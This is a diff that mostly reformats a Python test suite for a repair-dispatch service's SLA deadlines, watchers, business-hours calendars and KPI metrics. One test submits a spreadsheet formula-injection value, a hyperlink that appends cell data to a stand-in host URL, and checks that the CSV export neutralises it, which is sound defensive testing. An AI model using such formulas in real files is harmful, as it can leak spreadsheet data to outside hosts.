@@ -20,11 +20,11 @@ from dispatch.config import Settings
 from dispatch.database.core import Database, make_engine
 from dispatch.events.models import JobEvent
 from dispatch.jobs.models import Job
-from dispatch.sla import clock as sla_clock
+from dispatch.sla import states as sla_clock
 from dispatch.sla import watcher
 from dispatch.sla.calendar import BusinessHours, add_working_time, working_time_between
-from dispatch.sla.clock import SlaState
 from dispatch.sla.models import SlaCheckpoint
+from dispatch.sla.states import SlaState
 
 
 def watch(api, settings=None):  # type: ignore[no-untyped-def]
@@ -76,7 +76,10 @@ def test_an_express_job_carries_an_arrival_deadline_of_two_hours_and_races_it_fi
     job = api.job(service_tier="express")
     sla = job["sla"]
     assert sla["policy"] == "express"
-    assert [(d["deadline"], d["outcome"]) for d in sla["deadlines"]] == [("arrival", "pending"), ("completion", "pending")]
+    assert [(d["deadline"], d["outcome"]) for d in sla["deadlines"]] == [
+        ("arrival", "pending"),
+        ("completion", "pending"),
+    ]
     assert sla["next_deadline"] == "arrival"
     assert sla["time_left_seconds"] == 2 * 3600
 
@@ -94,21 +97,33 @@ def test_emergencies_come_first_in_the_at_risk_queue_even_when_others_are_later(
 
 def test_an_admin_edits_a_policy_and_only_jobs_received_after_get_the_new_targets(api):
     before = api.job()
-    r = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-        "arrival_hours": 4, "completion_hours": 12, "at_risk_ratio": 0.5,
-        "warnings": [{"ratio": 0.25, "notify": "technician"}], "pause_reasons": ["customer_unreachable"],
-    })
+    r = api.client.put(
+        "/v1/sla/policies/standard",
+        headers=api.headers("admin"),
+        json={
+            "arrival_hours": 4,
+            "completion_hours": 12,
+            "at_risk_ratio": 0.5,
+            "warnings": [{"ratio": 0.25, "notify": "technician"}],
+            "pause_reasons": ["customer_unreachable"],
+        },
+    )
     assert r.status_code == 200, r.text
     assert r.json()["updated_by"].startswith("admin")
     after = api.job()
     assert before["sla"]["due_at"] != after["sla"]["due_at"]
     assert after["sla"]["time_left_seconds"] == 4 * 3600  # the new arrival target
     assert api.get(f"/v1/jobs/{before['id']}").json()["sla"]["due_at"] == before["sla"]["due_at"]
-    bad = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-        "arrival_hours": 30, "completion_hours": 12})
+    bad = api.client.put(
+        "/v1/sla/policies/standard", headers=api.headers("admin"), json={"arrival_hours": 30, "completion_hours": 12}
+    )
     assert bad.status_code == 422 and bad.json()["code"] == "invalid-policy"
-    assert api.client.put("/v1/sla/policies/platinum", headers=api.headers("admin"),
-                          json={"completion_hours": 1}).status_code == 422
+    assert (
+        api.client.put(
+            "/v1/sla/policies/platinum", headers=api.headers("admin"), json={"completion_hours": 1}
+        ).status_code
+        == 422
+    )
 
 
 # --- states from the clock -----------------------------------------------------------------
@@ -125,8 +140,11 @@ def test_a_job_goes_at_risk_at_75_percent_and_breached_at_the_deadline_by_the_cl
 
 def test_the_sql_filter_and_the_job_agree_on_every_state(api):
     tech = api.technician(capacity=20)
-    jobs = [api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), service_tier=tier)
-            for h in (0, 10, 19, 25) for tier in ("standard", "express")]
+    jobs = [
+        api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), service_tier=tier)
+        for h in (0, 10, 19, 25)
+        for tier in ("standard", "express")
+    ]
     assign(api, jobs[0]["id"], tech)
     status(api, jobs[0]["id"], "on_site", tech)
     status(api, jobs[0]["id"], "completed", tech)
@@ -171,11 +189,17 @@ def test_the_watcher_records_each_warning_at_risk_and_breach_once_at_the_moment_
     assert watch(api).fired == 2  # at risk (18 h) and breached (24 h), caught up in one pass
     assert watch(api).fired == 0  # and never again
     assert watch(api).fired == 0
-    fired = [(e["type"], e["occurred_at"], e["data"]["notify"]) for e in api.get(
-        f"/v1/jobs/{job['id']}/events").json()["items"] if e["type"].startswith("sla_")]
+    fired = [
+        (e["type"], e["occurred_at"], e["data"]["notify"])
+        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
+        if e["type"].startswith("sla_")
+    ]
     stamp = lambda h: (T0 + timedelta(hours=h)).isoformat().replace("+00:00", "Z")
-    assert fired == [("sla_warning", stamp(12), "technician"), ("sla_at_risk", stamp(18), "dispatcher"),
-                     ("sla_breached", stamp(24), "supervisor")]
+    assert fired == [
+        ("sla_warning", stamp(12), "technician"),
+        ("sla_at_risk", stamp(18), "dispatcher"),
+        ("sla_breached", stamp(24), "supervisor"),
+    ]
 
 
 def test_a_watcher_that_was_down_catches_up_on_start_with_a_new_connection(api, settings):
@@ -188,7 +212,11 @@ def test_a_watcher_that_was_down_catches_up_on_start_with_a_new_connection(api, 
         fresh.dispose()
     assert result.fired == 9
     for job in jobs:
-        assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_warning", "sla_at_risk", "sla_breached"]
+        assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+            "sla_warning",
+            "sla_at_risk",
+            "sla_breached",
+        ]
 
 
 def test_meeting_a_deadline_makes_its_checkpoints_moot(api):
@@ -205,8 +233,11 @@ def test_a_job_fixed_late_before_the_watcher_passed_still_records_its_breach_onc
     api.clock.advance(hours=25)  # the watcher was down all day
     status(api, job["id"], "on_site", tech)
     status(api, job["id"], "completed", tech)
-    fired = [(e["type"], e["occurred_at"]) for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
-             if e["type"].startswith("sla_")]
+    fired = [
+        (e["type"], e["occurred_at"])
+        for e in api.get(f"/v1/jobs/{job['id']}/events").json()["items"]
+        if e["type"].startswith("sla_")
+    ]
     stamp = lambda h: (T0 + timedelta(hours=h)).isoformat().replace("+00:00", "Z")
     assert fired == [("sla_warning", stamp(12)), ("sla_at_risk", stamp(18)), ("sla_breached", stamp(24))]
     assert watch(api).fired == 0  # and not again when the watcher comes back
@@ -231,7 +262,8 @@ def test_a_cancellation_after_the_deadline_keeps_the_breach_the_customer_lived_t
     r = api.post(f"/v1/jobs/{job['id']}/status", {"status": "cancelled", "at": api.clock.now().isoformat()})
     assert r.status_code == 200, r.text
     assert events_of(api, job["id"], "sla_breached")[0]["occurred_at"] == (
-        T0 + timedelta(hours=24)).isoformat().replace("+00:00", "Z")
+        T0 + timedelta(hours=24)
+    ).isoformat().replace("+00:00", "Z")
 
 
 def test_a_return_visit_after_the_deadline_is_one_breach_fired_at_once_and_never_again(api):
@@ -249,7 +281,8 @@ def test_a_return_visit_after_the_deadline_is_one_breach_fired_at_once_and_never
     assert watch(api).fired == 0
     breaches = events_of(api, job["id"], "sla_breached")
     assert [(e["occurred_at"], e["data"]["notify"]) for e in breaches] == [
-        (reopened_at.isoformat().replace("+00:00", "Z"), "supervisor")]
+        (reopened_at.isoformat().replace("+00:00", "Z"), "supervisor")
+    ]
     assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_breached"]
     # The second fix ends the race; nothing else fires.
     status(api, job["id"], "on_site", tech)
@@ -308,7 +341,7 @@ def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings)
             barrier.wait()
             for _ in range(3):
                 results.append(watcher.run_pass(db, api.clock.now, Settings()).fired)
-        except Exception as exc:  # noqa: BLE001
+        except Exception as exc:
             errors.append(exc)
         finally:
             db.dispose()
@@ -321,9 +354,13 @@ def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings)
     assert not errors
     assert sum(results) == pending
     with api.database.session(write=False) as session:
-        recorded = [e.data["checkpoint_id"] for e in session.scalars(select(JobEvent).where(JobEvent.type.like("sla_%")))]
+        recorded = [
+            e.data["checkpoint_id"] for e in session.scalars(select(JobEvent).where(JobEvent.type.like("sla_%")))
+        ]
         assert len(recorded) == pending and len(set(recorded)) == pending  # each once, none missed
-        assert session.scalar(select(func.count()).select_from(SlaCheckpoint).where(SlaCheckpoint.fired_at.is_(None))) == 0
+        assert (
+            session.scalar(select(func.count()).select_from(SlaCheckpoint).where(SlaCheckpoint.fired_at.is_(None))) == 0
+        )
 
 
 # --- no-shows ------------------------------------------------------------------------------
@@ -331,7 +368,9 @@ def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings)
 
 def test_an_appointment_that_ends_with_nobody_on_site_is_a_no_show_the_dispatcher_hears_of(api):
     start = T0 + timedelta(hours=2)
-    _tech, job = assigned_job(api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()})
+    _tech, job = assigned_job(
+        api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
+    )
     api.clock.advance(hours=4, minutes=1)
     body = api.get(f"/v1/jobs/{job['id']}").json()
     assert body["sla"]["state"] == "at_risk" and body["sla"]["reasons"] == ["no_show"]
@@ -343,7 +382,9 @@ def test_an_appointment_that_ends_with_nobody_on_site_is_a_no_show_the_dispatche
 
 def test_a_technician_on_site_within_the_window_is_no_no_show(api):
     start = T0 + timedelta(hours=1)
-    tech, job = assigned_job(api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()})
+    tech, job = assigned_job(
+        api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
+    )
     api.clock.advance(hours=2)
     status(api, job["id"], "on_site", tech)
     api.clock.advance(hours=2)
@@ -411,8 +452,14 @@ def test_a_job_completed_while_paused_is_held_against_its_moved_deadline(api):
 
 # --- business hours ------------------------------------------------------------------------
 
-WARSAW_OFFICE = BusinessHours(timezone="Europe/Warsaw", days="12345", opens=time(8), closes=time(16),
-                              breaks=((time(12), time(12, 30)),), holidays=frozenset({date(2026, 3, 30)}))
+WARSAW_OFFICE = BusinessHours(
+    timezone="Europe/Warsaw",
+    days="12345",
+    opens=time(8),
+    closes=time(16),
+    breaks=((time(12), time(12, 30)),),
+    holidays=frozenset({date(2026, 3, 30)}),
+)
 
 
 def test_working_time_skips_nights_weekends_breaks_and_holidays():
@@ -427,32 +474,53 @@ def test_working_time_skips_nights_weekends_breaks_and_holidays():
 
 
 def test_a_contract_on_business_hours_gives_deadlines_on_its_calendar(api):
-    r = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-        "arrival_hours": None, "completion_hours": 8, "at_risk_ratio": 0.75,
-        "business_hours": {"timezone": "Europe/Warsaw", "days": "12345", "opens": "08:00", "closes": "16:00"},
-        "pause_reasons": ["customer_requested_later"],
-    })
+    r = api.client.put(
+        "/v1/sla/policies/standard",
+        headers=api.headers("admin"),
+        json={
+            "arrival_hours": None,
+            "completion_hours": 8,
+            "at_risk_ratio": 0.75,
+            "business_hours": {"timezone": "Europe/Warsaw", "days": "12345", "opens": "08:00", "closes": "16:00"},
+            "pause_reasons": ["customer_requested_later"],
+        },
+    )
     assert r.status_code == 200, r.text
     # T0 is Tuesday 10:00 in Warsaw: 6 h left that day, 2 h on Wednesday.
     job = api.job()
     assert job["sla"]["due_at"] == "2026-03-11T09:00:00Z"
-    bad = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-        "completion_hours": 8, "business_hours": {"timezone": "Europe/Warsaw", "days": "12345",
-                                                  "opens": "16:00", "closes": "08:00"}})
+    bad = api.client.put(
+        "/v1/sla/policies/standard",
+        headers=api.headers("admin"),
+        json={
+            "completion_hours": 8,
+            "business_hours": {"timezone": "Europe/Warsaw", "days": "12345", "opens": "16:00", "closes": "08:00"},
+        },
+    )
     assert bad.status_code == 422
     for zone in ("Mars/Olympus", "0", "Europe"):
-        r = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-            "completion_hours": 8, "business_hours": {"timezone": zone, "days": "12345",
-                                                      "opens": "08:00", "closes": "16:00"}})
+        r = api.client.put(
+            "/v1/sla/policies/standard",
+            headers=api.headers("admin"),
+            json={
+                "completion_hours": 8,
+                "business_hours": {"timezone": zone, "days": "12345", "opens": "08:00", "closes": "16:00"},
+            },
+        )
         assert r.status_code == 422, zone
 
 
 def test_targets_that_do_not_fit_the_calendar_are_refused_so_intake_keeps_working(api):
     one_minute_on_mondays = {"timezone": "Europe/Warsaw", "days": "1", "opens": "09:00", "closes": "09:01"}
-    r = api.client.put("/v1/sla/policies/standard", headers=api.headers("admin"), json={
-        "arrival_hours": None, "completion_hours": 720, "business_hours": one_minute_on_mondays})
+    r = api.client.put(
+        "/v1/sla/policies/standard",
+        headers=api.headers("admin"),
+        json={"arrival_hours": None, "completion_hours": 720, "business_hours": one_minute_on_mondays},
+    )
     assert r.status_code == 422 and r.json()["code"] == "invalid-policy", r.text
-    assert {p["name"]: p["business_hours"] for p in api.get("/v1/sla/policies").json()}["standard"] is None  # nothing saved
+    assert {p["name"]: p["business_hours"] for p in api.get("/v1/sla/policies").json()}[
+        "standard"
+    ] is None  # nothing saved
     assert api.post("/v1/jobs", job_body()).status_code == 201
 
 
@@ -536,23 +604,35 @@ def test_kpis_count_the_24_hour_rate_compliance_and_where_the_time_went(api):
     r = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"})
     assert r.status_code == 200, r.text
     (row,) = r.json()["rows"]
-    assert (row["jobs"], row["cancelled"], row["open"], row["completed"], row["completed_within_24h"]) == (4, 1, 1, 2, 1)
+    assert (row["jobs"], row["cancelled"], row["open"], row["completed"], row["completed_within_24h"]) == (
+        4,
+        1,
+        1,
+        2,
+        1,
+    )
     assert row["completion_rate_24h"] == pytest.approx(1 / 3, abs=1e-4)
     assert row["mean_hours_to_complete"] == 14.5 and row["p90_hours_to_complete"] == 26
     compliance = {(c["policy"], c["deadline"]): (c["met"], c["missed"]) for c in row["sla_compliance"]}
-    assert compliance == {("standard", "completion"): (1, 0), ("express", "completion"): (0, 1),
-                          ("express", "arrival"): (0, 1)}
+    assert compliance == {
+        ("standard", "completion"): (1, 0),
+        ("express", "completion"): (0, 1),
+        ("express", "arrival"): (0, 1),
+    }
     assert row["hours"]["dispatch"] == 1 and row["hours"]["assigned"] == 26.5
     assert row["hours"]["travel"] == 0.5 and row["hours"]["on_site"] == 1
 
-    by_category = api.get("/v1/metrics", who="supervisor", params={
-        "since": "2026-03-01", "until": "2026-04-01", "group_by": "category"}).json()["rows"]
+    by_category = api.get(
+        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "group_by": "category"}
+    ).json()["rows"]
     assert {(r["group"], r["jobs"]) for r in by_category} == {("washing machine", 3), ("fridge", 1)}
-    by_branch = api.get("/v1/metrics", who="supervisor", params={
-        "since": "2026-03-01", "until": "2026-04-01", "group_by": "branch"}).json()["rows"]
+    by_branch = api.get(
+        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "group_by": "branch"}
+    ).json()["rows"]
     assert {(r["group"], r["completed"]) for r in by_branch} == {("WAW", 2), (None, 0)}
-    daily = api.get("/v1/metrics", who="supervisor", params={
-        "since": "2026-03-01", "until": "2026-04-01", "interval": "day"}).json()["rows"]
+    daily = api.get(
+        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "interval": "day"}
+    ).json()["rows"]
     assert [(r["period"], r["jobs"]) for r in daily] == [("2026-03-10", 2), ("2026-03-11", 2)]
 
 
@@ -574,15 +654,24 @@ def test_a_category_typed_as_a_formula_stays_text_in_the_monthly_spreadsheet(api
     formula = '=hyperlink("http://x.example/?"&a1,"open")'
     api.job(headers=api.as_outlet(shop["id"]), product={"category": formula})
     api.job(product={"category": "-oven"})
-    r = api.get("/v1/metrics", who="supervisor", params={**{"since": "2026-03-01", "until": "2026-04-01"},
-                                                        "group_by": "category", "format": "csv"})
+    r = api.get(
+        "/v1/metrics",
+        who="supervisor",
+        params={**{"since": "2026-03-01", "until": "2026-04-01"}, "group_by": "category", "format": "csv"},
+    )
     groups = [row["group"] for row in csv.DictReader(io.StringIO(r.text))]
     assert sorted(groups) == sorted(["'" + formula, "'-oven"]), groups
 
 
 def test_the_python_and_sql_rules_share_one_definition_of_breached():
-    job = Job(status="assigned", next_due_at=T0, next_at_risk_at=T0 - timedelta(hours=1), due_at=T0,
-              at_risk_at=T0, arrival_missed=False)
+    job = Job(
+        status="assigned",
+        next_due_at=T0,
+        next_at_risk_at=T0 - timedelta(hours=1),
+        due_at=T0,
+        at_risk_at=T0,
+        arrival_missed=False,
+    )
     assert sla_clock.state(job, T0) is SlaState.breached
     assert sla_clock.state(job, T0 - timedelta(minutes=1)) is SlaState.at_risk
     job.paused_at = T0 - timedelta(hours=2)
@@ -606,15 +695,22 @@ def test_on_postgresql_a_watcher_skips_a_job_someone_holds_and_fires_it_next_pas
 def test_the_embedded_watcher_runs_inside_the_app_and_catches_up_when_it_starts(api, settings):
     job = api.job()
     api.clock.advance(hours=25)  # the server was down through the whole deadline
-    app = create_app(settings.model_copy(update={"sla_watcher_in_app": True, "sla_watcher_interval_seconds": 60}),
-                     clock=api.clock, database=api.database)
+    app = create_app(
+        settings.model_copy(update={"sla_watcher_in_app": True, "sla_watcher_interval_seconds": 60}),
+        clock=api.clock,
+        database=api.database,
+    )
     with TestClient(app):
         # The first pass starts with the app; wait for it (bounded), the clock does not move.
         for _ in range(200):
             if len([t for t in timeline(api, job["id"]) if t.startswith("sla_")]) == 3:
                 break
             time_module.sleep(0.05)
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_warning", "sla_at_risk", "sla_breached"]
+    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+        "sla_warning",
+        "sla_at_risk",
+        "sla_breached",
+    ]
 
 
 def test_dispatch_worker_once_fires_what_is_due_and_a_second_run_finds_nothing(api, monkeypatch):
@@ -629,12 +725,18 @@ def test_dispatch_worker_once_fires_what_is_due_and_a_second_run_finds_nothing(a
     assert "fired 3" in first.output
     second = CliRunner().invoke(cli, ["worker", "--once"])
     assert "fired 0" in second.output
-    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == ["sla_warning", "sla_at_risk", "sla_breached"]
+    assert [t for t in timeline(api, job["id"]) if t.startswith("sla_")] == [
+        "sla_warning",
+        "sla_at_risk",
+        "sla_breached",
+    ]
 
 
 def test_the_at_risk_queue_pages_through_every_job_once_in_order(api):
-    made = [api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), priority=p)
-            for h, p in ((20, "normal"), (23, "normal"), (1, "emergency"), (19, "high"), (30, "normal"))]
+    made = [
+        api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), priority=p)
+        for h, p in ((20, "normal"), (23, "normal"), (1, "emergency"), (19, "high"), (30, "normal"))
+    ]
     api.clock.advance(minutes=31)  # the emergency passes 50 % of its 2 h arrival target
     api.job()  # on track: not listed
     seen, cursor = [], None
@@ -666,9 +768,15 @@ def test_kpis_count_first_time_fixes_return_visits_and_what_customers_said_on_th
     assert r.status_code in (200, 201), r.text
     api.job()  # no visit yet: not counted in the fix rates
 
-    (row,) = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"}).json()["rows"]
+    (row,) = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"}).json()[
+        "rows"
+    ]
     assert (row["first_time_fix_rate"], row["return_visit_rate"]) == (0.5, 0.5)
-    assert (row["callbacks"], row["callback_reach_rate"], row["jobs_reached_by_callback"]) == (3, pytest.approx(2 / 3, abs=1e-4), 1.0)
+    assert (row["callbacks"], row["callback_reach_rate"], row["jobs_reached_by_callback"]) == (
+        3,
+        pytest.approx(2 / 3, abs=1e-4),
+        1.0,
+    )
     assert row["mean_satisfaction"] == 3.5
     reopened = api.get(f"/v1/jobs/{came_back['id']}").json()["sla"]
     assert reopened["return_visits"] == 1 and reopened["next_deadline"] == "completion"
